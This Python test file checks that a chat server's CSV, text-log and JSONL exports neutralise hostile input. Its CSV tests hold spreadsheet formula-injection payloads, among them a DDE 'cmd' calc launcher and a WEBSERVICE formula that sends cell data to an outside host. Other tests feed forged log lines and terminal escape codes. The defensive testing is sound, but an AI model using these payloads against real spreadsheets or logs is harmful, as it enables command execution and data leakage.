"""S13: exports are inert, readable and lose nothing they promise to keep."""

import csv
import hashlib
import io
import json

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sanchat.cli.formats import spreadsheet
from sanchat.cli.formats import text as text_format
from sanchat.cli.formats.jsonl import JsonlWriter
from sanchat.cli.formats.records import Header, RoomLine, UserLine
from sanchat.models import Author, Message, Reaction, Room, User

ANA = Author(7, "ana", "guest")


def message(text: str | None = "hello", seq: int = 1, **more: object) -> Message:
    record = {"room": "lobby", "seq": seq, "changed_seq": seq, "sent_at": 1_795_372_200_000}
    return msgspec.convert(
        record | {"type": "message", "user": ANA, "text": text} | more,
        Message,
        from_attributes=True,
    )


def cells(text: str) -> list[str]:
    whole = spreadsheet.header() + "".join(spreadsheet.rows([message(text)]))
    header, row = csv.reader(io.StringIO(whole, newline=""))
    assert tuple(header) == spreadsheet.COLUMNS
    return row


# What a spreadsheet calculates, each behind everything that a cell may begin with.
CALCULATED = [
    "1+1",
    "SUM(A1)",
    'HYPERLINK("http://example.org","x")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("http://example.org/"&A1)',
]
BEGINNINGS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "＋", "－", "＠", "'=", "''="]
FORMULAS = [beginning + rest for beginning in BEGINNINGS for rest in CALCULATED]
CALCULATES = tuple("=+-@\t\r\n\0＝＋－＠")


@pytest.mark.parametrize("text", FORMULAS)
def test_s13_no_cell_begins_like_a_formula(text: str) -> None:
    cell = cells(text)[spreadsheet.COLUMNS.index("text")]

    assert cell[0] == "'"
    assert spreadsheet.original(cell) == text


@pytest.mark.parametrize("text", FORMULAS)
def test_s13_whatever_people_choose_is_inert(text: str) -> None:
    said = message(
        text,
        user=Author(7, text),
        room=text,
        client_message_id=text,
        reactions=[Reaction(text, 2, ["ben"])],
    )
    (row,) = csv.reader(io.StringIO("".join(spreadsheet.rows([said])), newline=""))

    assert sum(spreadsheet.original(cell) == text for cell in row) == 4
    assert not [cell for cell in row if cell.startswith(CALCULATES)]


def test_s13_an_exported_room_holds_no_formula_and_every_text(admin, say) -> None:
    say("ana", *FORMULAS)
    whole = admin("export", "lobby", "--format", "csv").stdout_bytes.decode()
    exact = admin("export", "lobby", "--format", "jsonl").stdout_bytes.splitlines()

    header, *rows = csv.reader(io.StringIO(whole, newline=""))
    assert not [cell for row in rows for cell in row if cell.startswith(CALCULATES)]
    column = header.index("text")
    records = [json.loads(line) for line in exact]
    told = [record["text"] for record in records if record["type"] == "message"]
    assert [spreadsheet.original(row[column]) for row in rows] == told == FORMULAS


@pytest.mark.parametrize(
    "text", ["hello", "'tis", "a=1", 'she said "no"', "one\ntwo", "a,b;c", " "]
)
def test_other_cells_are_left_alone(text: str) -> None:
    assert cells(text)[spreadsheet.COLUMNS.index("text")] == text


@given(st.text())
def test_s13_every_text_can_be_read_back_from_csv(text: str) -> None:
    cell = cells(text)[spreadsheet.COLUMNS.index("text")]

    assert spreadsheet.original(cell) == text
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\0"))


def test_s13_csv_quotes_as_rfc_4180_says() -> None:
    (row,) = spreadsheet.rows([message('a "b",\nc')])

    assert '"a ""b"",\nc"' in row
    assert row.endswith("\r\n")


def test_a_log_has_one_line_with_a_time_for_each_message() -> None:
    said = [
        message("hello"),
        message("waves", kind="action"),
        message("one\ntwo\r\nthree"),
        message(None, deleted_at=1),
    ]

    assert list(text_format.lines(said)) == [
        "[2026-11-22T18:30:00] <ana> hello\n",
        "[2026-11-22T18:30:00] * ana waves\n",
        "[2026-11-22T18:30:00] <ana> one\n",
        "  two\n",
        "  three\n",
        "[2026-11-22T18:30:00] === ana deleted this message\n",
    ]


@pytest.mark.parametrize(
    "text", ["x\n[2026-11-22T18:30:00] <ben> I quit", "x\r[..] <ben> y", "x\u2028[..] <ben> y"]
)
def test_s14_no_text_can_pass_for_somebody_elses_message(text: str) -> None:
    lines = "".join(text_format.lines([message(text)])).splitlines()

    assert [line for line in lines if line.startswith("[")] == lines[:1]


def test_a_log_holds_no_escape_codes() -> None:
    (line,) = text_format.lines([message("\x1b[31mred\x07\x9b", user=Author(7, "a>b"))])

    assert line == "[2026-11-22T18:30:00] <a›b> \\x1b[31mred\\x07\\x9b\n"


def test_s13_a_jsonl_message_is_the_record_itself_and_the_footer_adds_up() -> None:
    said = message('\'=1\t"é"\n', reactions=[Reaction("👍", 2, ["ben", "cho"])], edited_at=5)
    room = Room(1, "lobby", "Lobby", "", "open", 1, 0, 0, 0)
    writer = JsonlWriter()

    lines = [
        writer.write(Header.now(server="s", exported_at=1, epoch="e", rooms=[])),
        writer.write(UserLine.of(User(7, "ana", "guest"))),
        writer.write(RoomLine.of(room)),
        writer.write(said),
        writer.end(),
    ]

    assert all(line.endswith(b"\n") and line.count(b"\n") == 1 for line in lines)
    assert lines[3] == msgspec.json.encode(said) + b"\n"
    assert msgspec.json.decode(lines[3], type=Message) == said
    header, footer = json.loads(lines[0]), json.loads(lines[-1])
    assert (header["type"], header["format"], header["version"]) == ("header", "sanchat-jsonl", 1)
    assert footer == {
        "type": "footer",
        "counts": {"user": 1, "room": 1, "message": 1},
        "sha256": hashlib.sha256(b"".join(lines[1:-1])).hexdigest(),
    }
